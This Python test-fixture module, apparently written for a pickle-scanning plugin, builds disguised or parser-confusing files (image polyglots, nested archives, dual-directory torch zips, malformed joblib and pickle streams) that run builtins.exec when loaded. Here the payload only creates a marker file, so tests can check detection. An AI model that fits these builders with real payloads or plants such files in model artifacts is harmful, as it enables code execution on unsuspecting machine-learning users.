"""Files that a real loader runs and that do not look like pickles, or that a loader reads
differently from the way a zip, tar, joblib or torch reader would read them.

Each attack names the loader that runs it (``pickle.load``, ``torch.load``, ``joblib.load``,
``numpy.load``, ``pandas.read_pickle``) and the file name it needs (pandas infers compression
from it). Its payload creates a marker file, so a test can prove that the loader really runs it
(in a subprocess) and that the plugin fails the file. Built from scratch; nothing here is copied
from elsewhere.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

#: How each loader is driven in the subprocess (``path`` is the file).
LOADERS: dict[str, str] = {
    "pickle.load": "import pickle\nwith open(path, 'rb') as handle:\n    pickle.load(handle)\n",
    "torch.load": "import torch\ntorch.load(path, weights_only=False)\n",
    "joblib.load": "import joblib\njoblib.load(path)\n",
    "numpy.load": "import numpy\nnumpy.load(path, allow_pickle=True)\n",
    "pandas.read_pickle": "import pandas\npandas.read_pickle(path)\n",
    # A container shipped to be unpacked, each file then loaded: the way a release tarball is used.
    "pandas.read_pickle of each extracted file": (
        "import os, tarfile, pandas\nout = path + '.extracted'\nwith tarfile.open(path) as archive:\n"
        "    archive.extractall(out, filter='data')\nfor name in sorted(os.listdir(out)):\n"
        "    pandas.read_pickle(os.path.join(out, name))\n"
    ),
}
#: The module each loader needs.
LOADER_MODULES = {
    "torch.load": "torch",
    "joblib.load": "joblib",
    "numpy.load": "numpy",
    "pandas.read_pickle": "pandas",
    "pandas.read_pickle of each extracted file": "pandas",
}


@dataclass(frozen=True)
class LoaderAttack:
    name: str
    filename: str
    loader: str
    build: Callable[[Path], bytes]
    #: What the plugin's report must say.
    expect: str = ""


def payload0(marker: Path) -> bytes:
    """A protocol 0 pickle, printable text, calling ``builtins.exec`` to create ``marker``."""
    code = f"open({str(marker)!r}, 'w').close()"
    return b"cbuiltins\nexec\n(V" + code.encode() + b"\ntR."


def long_first_line(length: int = 6000) -> bytes:
    """A quoted STRING pushed and popped: its line pushes the import past the sniffed head."""
    return b"S'" + b"a" * length + b"'\n0"


def launcher_script(path: Path, loader: str) -> str:
    """Python source that loads ``path`` with ``loader``; failures after the payload are ignored."""
    body = LOADERS[loader].replace("\n", "\n    ")
    return f"path = {str(path)!r}\ntry:\n    {body}\nexcept Exception as exc:\n    print(type(exc).__name__, exc)\n"


# -- builders -------------------------------------------------------------------------------------


def _gif(marker: Path) -> bytes:
    # BINFLOAT takes the 8 bytes after 'G' ('IF89a' and three more); POP drops the float.
    return b"GIF89a\x00\x00\x00" + b"0" + long_first_line() + payload0(marker)


def _ftyp(marker: Path) -> bytes:
    return b"G\x00\x00\x00ftyp\x00" + b"0" + long_first_line() + payload0(marker)


def _webp(marker: Path) -> bytes:
    # SHORT_BINSTRING of 10 bytes covers 'RIFF', the size and 'WEBP' at offset 8.
    return b"U\x0aRIFF\x00\x00WEBP" + b"0" + long_first_line() + payload0(marker)


def _text_long_line(marker: Path) -> bytes:
    return long_first_line() + payload0(marker)


def _integer_forms(marker: Path) -> bytes:
    # INT arguments that C's strtol(base 0) and PyLong_FromString accept.
    return b"I0x10\n0I 7\n0I1_000\n0I012\n0L0x1fL\n0" + payload0(marker)


def _truncated_exec(marker: Path) -> bytes:
    # As picklescan's broken_model.pkl: the call runs, then the stream ends without STOP.
    return payload0(marker)[:-1]


def _npy_fallback(marker: Path) -> bytes:
    return long_first_line() + payload0(marker)


def torch_zip_with_data_pkl(data_pkl: bytes) -> bytes:
    """A torch zip checkpoint (members as torch.save writes them) whose data.pkl is replaced."""
    import torch

    buffer = io.BytesIO()
    torch.save({}, buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for info in source.infolist():
            data = data_pkl if info.filename.endswith("/data.pkl") else source.read(info)
            archive.writestr(info.filename, data)
    return out.getvalue()


def _torch_zip_text_data_pkl(marker: Path) -> bytes:
    return torch_zip_with_data_pkl(long_first_line() + payload0(marker))


def _gzip_member(marker: Path) -> bytes:
    return gzip.compress(long_first_line() + payload0(marker))


def _zip_member(marker: Path) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("model.pkl", long_first_line() + payload0(marker))
    return buffer.getvalue()


def v7_tar(name: str, data: bytes) -> bytes:
    """A tar of one member in the V7 format (no 'ustar' magic), which tarfile reads."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    raw = bytearray(buffer.getvalue())
    raw[257:265] = bytes(8)  # magic and version gone
    raw[265:345] = bytes(80)  # uname, gname (V7 has none)
    raw[148:156] = b"        "
    raw[148:156] = b"%06o\x00 " % sum(raw[:512])
    return bytes(raw)


def _tar_v7(marker: Path) -> bytes:
    return v7_tar("model.pkl", long_first_line() + payload0(marker))


def _zip_behind_text(marker: Path) -> bytes:
    return b"# Model card\n\nWeights for the demo model.\n" * 100 + _zip_member(marker)


def _xz_by_name(marker: Path) -> bytes:
    # pandas opens '.xz' with lzma.open (format auto): a legacy .lzma stream with uncommon
    # properties (not the usual 0x5d first byte) is read all the same.
    filters = [{"id": lzma.FILTER_LZMA1, "lc": 0, "lp": 0, "pb": 0, "dict_size": 1 << 16}]
    return lzma.compress(long_first_line() + payload0(marker), format=lzma.FORMAT_ALONE, filters=filters)


def _bz2_by_name(marker: Path) -> bytes:
    return bz2.compress(long_first_line() + payload0(marker))


def _legacy_torch_later_stream(marker: Path) -> bytes:
    """torch's legacy format: magic number, protocol version, sys_info, then the main stream,
    which starts with INT forms the old walker refused."""
    import pickle

    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    return magic + version + sys_info + b"I0x1\n0" + payload0(marker)


def joblib_dtype_by_name(marker: Path) -> bytes:
    """A joblib dump whose dtype is spelled 'float64' (numpy: 8 bytes an element). joblib reads
    16 x 8 bytes of array data, then runs the payload that follows; a reader taking 64 bytes an
    element skips the payload and finds a STOP at 1024 bytes."""
    import joblib
    import numpy as np

    buffer = io.BytesIO()
    joblib.dump(np.arange(16.0), buffer, protocol=2)
    data = buffer.getvalue()
    data = data.replace(b"X\x02\x00\x00\x00f8q", b"X\x07\x00\x00\x00float64q")
    data = data.replace(b"numpy_array_alignment_bytesq\x11K\x10ub", b"numpy_array_alignment_bytesq\x11Nub")
    head = data[: data.index(b"numpy_array_alignment_bytesq\x11Nub") + len(b"numpy_array_alignment_bytesq\x11Nub")]
    after = bytes(16 * 8) + b"0" + payload0(marker)
    return head + after + bytes(16 * 64 - len(after)) + b"."


def joblib_array_as_opcodes(marker: Path) -> bytes:
    """A joblib dump of a byte array whose data is a pickle payload: joblib.load skips it as
    array data; pickle.load (and torch.load, pandas) runs it as opcodes."""
    import joblib
    import numpy as np

    body = b"0" + payload0(marker)
    buffer = io.BytesIO()
    joblib.dump(np.frombuffer(body, dtype=np.uint8), buffer, protocol=2)
    data = buffer.getvalue()
    key = b"numpy_array_alignment_bytesq\x11"
    start = data.index(key) + len(key)
    assert data[start : start + 4] == b"K\x10ub"
    padding = data[start + 4]
    rest = data[start + 4 + 1 + padding :]
    return data[:start] + b"Nub" + rest


def fan_out(marker: Path, references: int = 100_000) -> bytes:
    """One stored pickle handed to pickle.loads ``references`` times through the memo."""
    inner = payload0(marker)
    ops = bytearray(b"\x80\x02cpickle\nloads\nq\x00B" + struct.pack("<I", len(inner)) + inner + b"q\x01]q\x02(")
    for _ in range(references):
        ops += b"h\x00h\x01\x85R"
    ops += b"e."
    return bytes(ops)


def _end_record(data: bytes) -> tuple[int, int, int]:
    """(central directory offset, its size, end record offset) of a zip without a comment."""
    end = data.rindex(b"PK\x05\x06")
    size, offset = struct.unpack("<II", data[end + 12 : end + 20])
    return offset, size, end


def torch_zip_two_directories(marker: Path) -> bytes:
    """Two torch checkpoints in one file, one end record. The record gives the offset of the
    first (malicious) central directory, which torch's reader (miniz) takes as it is; zipfile
    takes the directory right before the record (the second, benign one) and shifts the member
    offsets by the difference, which the second directory's offsets are written to expect."""
    import pickle

    evil = torch_zip_with_data_pkl(b"\x80\x02" + payload0(marker)[:-1] + b"0}.")
    benign = torch_zip_with_data_pkl(pickle.dumps({}, protocol=2))
    evil_cd, _, evil_end = _end_record(evil)
    benign_cd, benign_size, benign_end = _end_record(benign)
    directory = bytearray(benign[benign_cd : benign_cd + benign_size])
    position = 0
    while position < len(directory):
        name, extra, comment = struct.unpack("<HHH", directory[position + 28 : position + 34])
        offset = struct.unpack("<I", directory[position + 42 : position + 46])[0]
        directory[position + 42 : position + 46] = struct.pack("<I", offset + evil_cd - benign_cd)
        position += 46 + name + extra + comment
    record = bytearray(benign[benign_end : benign_end + 22])
    record[16:20] = struct.pack("<I", evil_cd)
    return evil[:evil_end] + benign[:benign_cd] + bytes(directory) + bytes(record)


def joblib_side_file(marker: Path) -> bytes:
    """joblib's format before 0.10: an NDArrayWrapper names the file holding the array, and
    joblib.load opens it with numpy.load(allow_pickle=True), wherever it is (an absolute name
    leaves the checked folder). The side file, written next to the marker, is a plain pickle
    (numpy.load's fallback runs it); the file handed to joblib.load imports nothing but the
    wrapper and numpy's ndarray."""
    side = marker.with_name("joblib-side-array.npy")
    side.parent.mkdir(parents=True, exist_ok=True)
    side.write_bytes(payload0(marker))
    name = str(side).encode()
    return (
        b"\x80\x02cjoblib.numpy_pickle_compat\nNDArrayWrapper\nq\x00)\x81q\x01}q\x02(X\x08\x00\x00\x00filename"
        + b"X"
        + struct.pack("<I", len(name))
        + name
        + b"X\x08\x00\x00\x00subclasscnumpy\nndarray\nX\n\x00\x00\x00allow_mmap\x89ub."
    )


def _unterminated_inst(marker: Path) -> bytes:
    """INST whose class name is the last line of the file, without its newline. C's unpickler
    (pickle.load) stops there; Python's (pickle._Unpickler, which joblib.load uses) takes the
    line without its last byte, and calls the class: builtins.exec runs."""
    code = f"open({str(marker)!r}, 'w').close()"
    return b"(V" + code.encode() + b"\nibuiltins\nexecX"


def _short_frame(marker: Path) -> bytes:
    """A FRAME announcing more bytes than the file holds: C's unpickler refuses it; Python's
    (joblib.load) reads the bytes left as the frame and runs them."""
    code = f"open({str(marker)!r}, 'w').close()".encode()
    body = b"\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x94\x8c" + bytes([len(code)]) + code + b"\x94\x85\x94R\x94."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 4096) + body


def _zip_behind_text_in_tar_gz(marker: Path) -> bytes:
    """A release tarball (gzip) holding a model card that ends in a zip: unpacked, pandas reads
    the member's zip (found from its end) and runs the pickle in it."""
    inner = _zip_behind_text(marker)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("model.zip")
        info.size = len(inner)
        archive.addfile(info, io.BytesIO(inner))
    return gzip.compress(buffer.getvalue())


def _npy_object_nested(marker: Path) -> bytes:
    """An object array whose pickle hands the payload's bytes to pickle.loads: numpy.load runs
    both; the bytes are read like any stream's."""
    inner = payload0(marker)
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    outer = b"\x80\x02cpickle\nloads\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + outer


def joblib_zfile(data: bytes) -> bytes:
    """joblib's format before 0.10: "ZF", the length in hex padded to 19 characters, zlib data."""
    return b"ZF" + f"{len(data):#x}".ljust(19).encode() + zlib.compress(data)


def _joblib_zfile(marker: Path) -> bytes:
    return joblib_zfile(payload0(marker))


ATTACKS: list[LoaderAttack] = [
    LoaderAttack("gif-magic", "image.gif", "pickle.load", _gif, "builtins.exec"),
    LoaderAttack("ftyp-magic", "clip.mp4", "pickle.load", _ftyp, "builtins.exec"),
    LoaderAttack("webp-magic", "photo.webp", "pickle.load", _webp, "builtins.exec"),
    LoaderAttack("text-long-first-line", "notes.txt", "pickle.load", _text_long_line, "builtins.exec"),
    LoaderAttack("integer-forms", "values.txt", "pickle.load", _integer_forms, "builtins.exec"),
    LoaderAttack("truncated-exec", "broken_model.pkl", "pickle.load", _truncated_exec, "builtins.exec"),
    LoaderAttack("npy-without-magic", "weights.npy", "numpy.load", _npy_fallback, "builtins.exec"),
    LoaderAttack("torch-zip-text-data-pkl", "model.pt", "torch.load", _torch_zip_text_data_pkl, "builtins.exec"),
    LoaderAttack("gzip-member", "model.joblib", "joblib.load", _gzip_member, "builtins.exec"),
    LoaderAttack("zip-member", "model.zip", "pandas.read_pickle", _zip_member, "builtins.exec"),
    LoaderAttack("tar-without-ustar", "model.tar", "pandas.read_pickle", _tar_v7, "builtins.exec"),
    LoaderAttack("zip-behind-text", "model.zip", "pandas.read_pickle", _zip_behind_text, "builtins.exec"),
    LoaderAttack("xz-by-name", "model.pkl.xz", "pandas.read_pickle", _xz_by_name, ""),
    LoaderAttack("bz2-by-name", "model.pkl.bz2", "pandas.read_pickle", _bz2_by_name, "builtins.exec"),
    LoaderAttack("legacy-torch-later-stream", "model.pt", "torch.load", _legacy_torch_later_stream, "builtins.exec"),
    LoaderAttack("joblib-dtype-by-name", "model.joblib", "joblib.load", joblib_dtype_by_name, "builtins.exec"),
    LoaderAttack("joblib-array-as-opcodes", "model.joblib", "pickle.load", joblib_array_as_opcodes, "builtins.exec"),
    LoaderAttack("nested-fan-out", "cache.pkl", "pickle.load", fan_out, "pickle.loads"),
    LoaderAttack("npy-object-nested-loads", "objects.npy", "numpy.load", _npy_object_nested, "builtins.exec"),
    LoaderAttack("joblib-zfile", "model.pkl", "joblib.load", _joblib_zfile, "builtins.exec"),
    LoaderAttack("joblib-side-file", "model.joblib", "joblib.load", joblib_side_file, "side file"),
    LoaderAttack("unterminated-inst", "model.joblib", "joblib.load", _unterminated_inst, "builtins.exec"),
    LoaderAttack("short-frame", "model.joblib", "joblib.load", _short_frame, "builtins.exec"),
    LoaderAttack(
        "zip-behind-text-in-tar-gz",
        "release.tar.gz",
        "pandas.read_pickle of each extracted file",
        _zip_behind_text_in_tar_gz,
        "builtins.exec",
    ),
    LoaderAttack(
        "torch-zip-two-directories", "model.pt", "torch.load", torch_zip_two_directories, "torch.load reads the one"
    ),
]
